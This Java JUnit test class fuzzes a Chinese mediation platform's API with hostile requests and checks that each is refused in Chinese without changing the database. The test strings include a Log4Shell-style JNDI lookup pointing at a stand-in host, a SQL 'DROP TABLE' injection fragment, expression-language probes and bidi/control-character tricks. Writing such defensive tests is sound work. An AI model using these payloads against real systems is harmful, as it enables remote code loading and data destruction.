package cn.jiyuan.mediation.platform;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import cn.jiyuan.mediation.intake.CaseIntakeValidation;
import cn.jiyuan.mediation.screening.ScreeningClock;
import cn.jiyuan.mediation.calendar.SensitivePeriodRequest;
import cn.jiyuan.mediation.screening.campaign.CampaignOrderReader;
import cn.jiyuan.mediation.support.DemoPlatformTest;
import cn.jiyuan.mediation.support.Http;

/**
 * Sends thousands of generated malformed and hostile requests ({@link HostileRequests}) over real HTTP to every
 * POST/PUT endpoint of {@code /api}, as users allowed to call them, from a few concurrent clients, and checks
 * that every answer is a 4xx problem (application/problem+json) in Chinese, that none is a 5xx or a reset
 * connection, and that the case, party, finding, ledger, screening, calendar and organization tables and the
 * engine's process instances are exactly as before (row counts and checksums). Runs on the database of the
 * subclass; the generator is seeded, so a failure can be replayed.
 */
@DemoPlatformTest
abstract class HostileInputTestBase {

    static final long SEED = 20261202L;
    static final int REQUESTS = 5_200;
    static final int CLIENTS = 4;

    /** Tables that no refused request may change (the engine's process instances too). */
    static final List<String> GUARDED_TABLES = List.of("case_file", "case_party", "case_risk_indicator",
            "case_status_history", "case_number_counter", "api_idempotency", "screening_round", "screening_report",
            "screening_finding", "stability_ledger", "stability_plan", "sensitive_period", "org_unit",
            "org_justice_office", "org_committee", "org_person", "org_contact");

    private static final Pattern CHINESE = Pattern.compile("\\p{IsHan}");
    /** Three or more English words in a row: a sentence, not an identifier such as application/json. */
    private static final Pattern ENGLISH_SENTENCE = Pattern.compile("[A-Za-z]{2,}(?:[ ,]+[A-Za-z]{2,}){2,}");
    private static final Pattern INTERNALS = Pattern.compile("Exception|java\\.|org\\.|springframework|jackson|"
            + "tomcat|\\bat [a-z]+\\.|SQL", Pattern.CASE_INSENSITIVE);

    final ObjectMapper json = new ObjectMapper();

    @LocalServerPort
    int port;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    CaseIntakeValidation caseReader;
    @Autowired
    CampaignOrderReader campaignReader;
    @Autowired
    ScreeningClock clock;

    @Test
    void everyHostileRequestToEveryPostAndPutEndpointIsRefusedInChineseAndChangesNothing() throws Exception {
        HostileRequests generator = new HostileRequests(SEED, clock.today());
        theValidBodiesTheDefectsAreAppliedToAreValid(generator);
        List<HostileRequests.Attack> attacks = generator.generate(REQUESTS);
        Map<String, String> before = snapshot();

        HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(Duration.ofSeconds(10)).build();
        Http http = new Http(port);
        Map<Integer, AtomicInteger> statuses = new ConcurrentHashMap<>();
        Map<String, AtomicInteger> endpoints = new ConcurrentHashMap<>();
        Map<String, java.util.concurrent.atomic.AtomicLong> millis = new ConcurrentHashMap<>();
        ConcurrentLinkedQueue<String> failures = new ConcurrentLinkedQueue<>();
        long start = System.nanoTime();
        ExecutorService pool = Executors.newFixedThreadPool(CLIENTS);
        for (HostileRequests.Attack attack : attacks) {
            pool.execute(() -> {
                long t0 = System.nanoTime();
                String problem = check(client, http, attack, statuses);
                endpoints.computeIfAbsent(attack.endpoint(), k -> new AtomicInteger()).incrementAndGet();
                millis.computeIfAbsent(attack.endpoint(), k -> new java.util.concurrent.atomic.AtomicLong())
                        .addAndGet((System.nanoTime() - t0) / 1_000_000);
                if (problem != null) {
                    failures.add(attack.endpoint() + " " + attack.method() + " " + attack.path() + " [" + attack.defect()
                            + "]: " + problem);
                }
            });
        }
        pool.shutdown();
        assertThat(pool.awaitTermination(10, TimeUnit.MINUTES)).isTrue();
        double seconds = (System.nanoTime() - start) / 1e9;

        Map<Integer, Integer> counts = new TreeMap<>();
        statuses.forEach((status, n) -> counts.put(status, n.get()));
        System.out.printf("[fuzz] %d requests, statuses %s, took %.1f s (requests per endpoint %s, ms %s)%n",
                attacks.size(), counts, seconds, new TreeMap<>(endpoints), new TreeMap<>(millis));

        assertThat(failures).as("requests not answered with a Chinese 4xx problem").isEmpty();
        assertThat(counts.keySet()).allMatch(s -> s >= 400 && s < 500);
        assertThat(counts.values().stream().mapToInt(Integer::intValue).sum()).isEqualTo(REQUESTS);
        assertThat(snapshot()).as("tables after the hostile requests").isEqualTo(before);
    }

    // ------------------------------------------------------------------ the findings of the issue, one by one

    @Test
    void numbersNoFieldTakesAreRefusedNamingTheFieldAndNeverStoredRounded() {
        int cases = count("case_file");
        for (String number : List.of("1e999999999", "1e-999999999", "1e99999999999", "9".repeat(3000), "0.001",
                "-5")) {
            HttpResponse<String> answer = send("POST", "/api/cases", "zhangli", "demo", "application/json",
                    HostileRequests.validCase().put("amountInvolved", "@N@").toString().replace("\"@N@\"", number));
            assertThat(answer.statusCode()).as(number).isEqualTo(400);
            assertThat(fields(answer)).as(number).containsExactly("amountInvolved");
        }
        HttpResponse<String> people = send("POST", "/api/cases", "zhangli", "demo", "application/json",
                HostileRequests.validCase().put("peopleInvolved", "@N@").toString().replace("\"@N@\"", "1e999999999"));
        assertThat(fields(people)).containsExactly("peopleInvolved");
        assertThat(count("case_file")).isEqualTo(cases);
    }

    @Test
    void bodiesOverTheLimitAre413InChineseEvenWithoutContentLengthAndUploadsOverTheirLimitToo() {
        // a 2 MB body with an unknown field: refused for its size, from the Content-Length alone
        ObjectNode big = HostileRequests.validCase().put("padding", "x".repeat(2 * 1024 * 1024));
        HttpResponse<String> declared = send("POST", "/api/cases", "zhangli", "demo", "application/json",
                big.toString());
        assertProblem(declared, 413, "请求内容过大");
        assertThat(problem(declared).get("detail").asText()).contains("1MB");
        // the same body chunked (no Content-Length): refused once reading passes the limit
        HttpResponse<String> chunked = new Http(port).send(HttpRequest.newBuilder(URI.create(new Http(port)
                        .url("/api/cases"))).header("Authorization", Http.basic("zhangli", "demo"))
                .header("Content-Type", "application/json").version(HttpClient.Version.HTTP_1_1)
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(
                        big.toString().getBytes(StandardCharsets.UTF_8)))).build());
        assertProblem(chunked, 413, "请求内容过大");
        // a 25 MB upload: 413 in Chinese, not a reset connection
        byte[] upload = new byte[25 * 1024 * 1024];
        java.util.Arrays.fill(upload, (byte) 'a');
        String boundary = "----limit";
        byte[] head = ("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"units.csv\"\r\n\r\n")
                .getBytes(StandardCharsets.UTF_8);
        byte[] tail = ("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8);
        byte[] body = new byte[head.length + upload.length + tail.length];
        System.arraycopy(head, 0, body, 0, head.length);
        System.arraycopy(upload, 0, body, head.length, upload.length);
        System.arraycopy(tail, 0, body, head.length + upload.length, tail.length);
        HttpResponse<String> uploaded = new Http(port).send(HttpRequest.newBuilder(URI.create(new Http(port)
                        .url(HostileRequests.IMPORT))).header("Authorization", Http.basic("admin", "admin-secret"))
                .header("Content-Type", "multipart/form-data; boundary=" + boundary).version(HttpClient.Version.HTTP_1_1)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build());
        assertProblem(uploaded, 413, "请求内容过大");
        assertThat(problem(uploaded).get("detail").asText()).contains("20MB");
    }

    @Test
    void unknownFieldsControlAndBidiCharactersAreRefusedNamingTheField() {
        assertThat(fields(send("POST", "/api/cases", "zhangli", "demo", "application/json",
                HostileRequests.validCase().put("summry", "拼错的字段").toString()))).containsExactly("summry");
        assertThat(fields(send("POST", "/api/cases", "zhangli", "demo", "application/json",
                HostileRequests.validCase().put("summary", "申请人\u202e诉称").toString()))).containsExactly("summary");
        ObjectNode party = HostileRequests.validCase();
        ((ObjectNode) party.get("parties").get(0)).put("name", "王\n大山");
        assertThat(fields(send("POST", "/api/cases", "zhangli", "demo", "application/json", party.toString())))
                .containsExactly("parties[0].name");
        HostileRequests generator = new HostileRequests(SEED, clock.today());
        assertThat(fields(send("POST", HostileRequests.CAMPAIGNS, "zhaojiceng", "demo", "application/json",
                generator.validCampaign().put("topic", "排查\u0000主题").toString()))).containsExactly("topic");
        assertThat(fields(send("PUT", HostileRequests.CALENDAR + "/2040/CUSTOM_FUZZ", "zhaojiceng", "demo",
                "application/json", HostileRequests.validPeriod().put("name", "时期\u2066名称").toString())))
                .containsExactly("name");
        // a multi-line field keeps its line breaks (also Windows ones) and tabs
        assertThat(UserText.problem("第一行\r\n第二行\n\t第三行", true)).isNull();
    }

    @Test
    void wrongContentTypesMethodsPathsAndBrokenBodiesAreAnsweredInChinese() {
        String valid = HostileRequests.validCase().toString();
        assertProblem(send("POST", "/api/cases", "zhangli", "demo", "text/plain", valid), 415, "不支持的内容类型");
        assertProblem(send("POST", "/api/cases", "zhangli", "demo", "application/json; charset=ISO-8859-1", valid),
                415, "不支持的内容类型");
        HttpResponse<String> method = send("DELETE", "/api/cases", "zhangli", "demo", "application/json", valid);
        assertProblem(method, 405, "不支持的请求方法");
        assertThat(method.headers().firstValue("Allow")).hasValueSatisfying(v -> assertThat(v).contains("POST"));
        assertProblem(send("GET", "/api/no-such-thing", "zhangli", "demo", null, ""), 404, "未找到");
        assertThat(fields(send("POST", "/api/cases", "zhangli", "demo", "application/json",
                "{\"summary\":" + "[".repeat(5000) + "]".repeat(5000) + "}"))).containsExactly("(body)");
        assertThat(fields(send("POST", "/api/cases", "zhangli", "demo", "application/json",
                valid.replaceFirst("\\{", "{\"summary\":\"先写的\",")))).containsExactly("summary");
        assertThat(fields(send("POST", "/api/cases", "zhangli", "demo", "application/json", valid + "{}")))
                .containsExactly("(body)");
        byte[] overlong = valid.replace("两家", "两@@家").getBytes(StandardCharsets.UTF_8);
        String text = new String(overlong, StandardCharsets.ISO_8859_1).replace("@@", "\u00c0\u00af");
        assertThat(fields(sendBytes("POST", "/api/cases", "application/json",
                text.getBytes(StandardCharsets.ISO_8859_1)))).containsExactly("(body)");
        HttpResponse<String> broken = sendBytes("POST", HostileRequests.IMPORT, "multipart/form-data; boundary=x",
                "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"units.csv\"\r\n\r\ncode,name"
                        .getBytes(StandardCharsets.UTF_8));
        assertProblem(broken, 400, "请求有误");
    }

    @Test
    void expressionAndSqlFragmentsAreStoredAndAnsweredAsText() throws Exception {
        String literal = "${7*7} #{7*7} ${jndi:ldap://x.example/a} '; DROP TABLE case_file; -- <b>粗体</b>";
        HttpResponse<String> created = send("POST", "/api/cases", "zhangli", "demo", "application/json",
                HostileRequests.validCase().put("summary", literal).toString());
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        long caseId = json.readTree(created.body()).get("caseId").asLong();
        assertThat(jdbc.queryForObject("select summary from case_file where id = ?", String.class, caseId))
                .isEqualTo(literal);
        assertThat(json.readTree(new Http(port).get("/api/cases/" + caseId, "zhangli", "demo").body())
                .get("summary").asText()).isEqualTo(literal);

        String name = "${7*7}#{7*7}'--";
        HttpResponse<String> period = send("PUT", HostileRequests.CALENDAR + "/2043/CUSTOM_LITERAL", "zhaojiceng",
                "demo", "application/json", HostileRequests.validPeriod().put("name", name)
                        .put("start", "2043-05-01").put("end", "2043-05-03").toString());
        assertThat(period.statusCode()).as(period.body()).isEqualTo(200);
        assertThat(new Http(port).get(HostileRequests.CALENDAR + "?year=2043", "zhaojiceng", "demo").body())
                .contains(json.writeValueAsString(name));
        assertThat(send("DELETE", HostileRequests.CALENDAR + "/2043/CUSTOM_LITERAL", "zhaojiceng", "demo", null, "")
                .statusCode()).isEqualTo(204);
    }

    private HttpResponse<String> send(String method, String path, String user, String password, String contentType,
                                      String body) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(new Http(port).url(path)))
                .version(HttpClient.Version.HTTP_1_1)
                .header("Authorization", Http.basic(user, password))
                .method(method, body.isEmpty() ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        return new Http(port).send(request.build());
    }

    private HttpResponse<String> sendBytes(String method, String path, String contentType, byte[] body) {
        String user = path.equals(HostileRequests.IMPORT) ? "admin" : "zhangli";
        return new Http(port).send(HttpRequest.newBuilder(URI.create(new Http(port).url(path)))
                .version(HttpClient.Version.HTTP_1_1)
                .header("Authorization", Http.basic(user, user.equals("admin") ? "admin-secret" : "demo"))
                .header("Content-Type", contentType)
                .method(method, HttpRequest.BodyPublishers.ofByteArray(body)).build());
    }

    private JsonNode problem(HttpResponse<String> response) {
        try {
            return json.readTree(response.body());
        } catch (Exception e) {
            throw new AssertionError("not JSON: " + response.body(), e);
        }
    }

    private void assertProblem(HttpResponse<String> response, int status, String title) {
        assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
        assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(
                v -> assertThat(v).startsWith("application/problem+json"));
        assertThat(problem(response).get("title").asText()).isEqualTo(title);
        assertThat(problem(response).get("detail").asText()).containsPattern("\\p{IsHan}");
    }

    /** The fields a 400 problem names. */
    private List<String> fields(HttpResponse<String> response) {
        assertProblem(response, 400, "请求有误");
        List<String> fields = new ArrayList<>();
        problem(response).get("errors").forEach(e -> {
            assertThat(e.get("message").asText()).containsPattern("\\p{IsHan}");
            fields.add(e.get("field").asText());
        });
        return fields;
    }

    private int count(String table) {
        return jdbc.queryForObject("select count(*) from " + table, Integer.class);
    }

    /** Every defect is added to a valid body: without it, the request would be accepted. */
    private void theValidBodiesTheDefectsAreAppliedToAreValid(HostileRequests generator) throws Exception {
        assertThatCode(() -> caseReader.read(HostileRequests.validCase())).doesNotThrowAnyException();
        ObjectNode campaign = generator.validCampaign();
        assertThatCode(() -> campaignReader.read(json.convertValue(campaign, Map.class))).doesNotThrowAnyException();
        ObjectNode period = HostileRequests.validPeriod();
        assertThatCode(() -> SensitivePeriodRequest.validate("2040", "CUSTOM_FUZZ", json.treeToValue(period,
                SensitivePeriodRequest.class))).doesNotThrowAnyException();
    }

    /** @return what is wrong with the answer, or null when it is a 4xx problem in Chinese */
    private String check(HttpClient client, Http http, HostileRequests.Attack attack,
                         Map<Integer, AtomicInteger> statuses) {
        HttpResponse<String> response;
        try {
            response = client.send(request(http, attack), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        } catch (Exception e) {
            return "no answer: " + e;
        }
        statuses.computeIfAbsent(response.statusCode(), k -> new AtomicInteger()).incrementAndGet();
        if (response.statusCode() < 400 || response.statusCode() >= 500) {
            return "status " + response.statusCode() + ": " + shorten(response.body());
        }
        String type = response.headers().firstValue("Content-Type").orElse("");
        if (!type.startsWith("application/problem+json")) {
            return "content type '" + type + "': " + shorten(response.body());
        }
        JsonNode problem;
        try {
            problem = json.readTree(response.body());
        } catch (Exception e) {
            return "not JSON: " + shorten(response.body());
        }
        List<String> texts = new ArrayList<>();
        texts.add(problem.path("title").asText(""));
        texts.add(problem.path("detail").asText(""));
        problem.path("errors").forEach(e -> texts.add(e.path("message").asText("")));
        for (String text : texts) {
            if (!CHINESE.matcher(text).find() || ENGLISH_SENTENCE.matcher(text).find()
                    || INTERNALS.matcher(text).find()) {
                return "not plain Chinese: '" + text + "' in " + shorten(response.body());
            }
        }
        if (problem.path("status").asInt() != response.statusCode()) {
            return "status in the body differs: " + shorten(response.body());
        }
        return null;
    }

    private static HttpRequest request(Http http, HostileRequests.Attack attack) {
        byte[] body = attack.body().get();
        HttpRequest.BodyPublisher publisher = attack.chunked()
                ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body))
                : HttpRequest.BodyPublishers.ofByteArray(body);
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(http.url(attack.path())))
                .timeout(Duration.ofSeconds(60))
                .method(attack.method(), publisher)
                .header("Authorization", Http.basic(attack.user(), attack.password()));
        if (attack.contentType() != null) {
            request.header("Content-Type", attack.contentType());
        }
        if (attack.accept() != null) {
            request.header("Accept", attack.accept());
        }
        attack.headers().forEach(request::header);
        return request.build();
    }

    /** Row count and a checksum of every guarded table, and the number of process instances ever started. */
    Map<String, String> snapshot() throws Exception {
        Map<String, String> snapshot = new LinkedHashMap<>();
        for (String table : GUARDED_TABLES) {
            List<String> rows = jdbc.queryForList("select * from " + table).stream()
                    .map(row -> new TreeMap<>(row.entrySet().stream().collect(Collectors.toMap(
                            e -> e.getKey().toLowerCase(), e -> String.valueOf(e.getValue())))).toString())
                    .sorted().toList();
            MessageDigest sha = MessageDigest.getInstance("SHA-256");
            rows.forEach(r -> sha.update(r.getBytes(StandardCharsets.UTF_8)));
            snapshot.put(table, rows.size() + " rows, sha256 " + HexFormat.of().formatHex(sha.digest()));
        }
        snapshot.put("process instances", String.valueOf(jdbc.queryForObject("select count(*) from ACT_HI_PROCINST",
                Long.class)));
        return snapshot;
    }

    private static String shorten(String text) {
        return text == null ? "" : text.length() > 400 ? text.substring(0, 400) + "…" : text;
    }
}
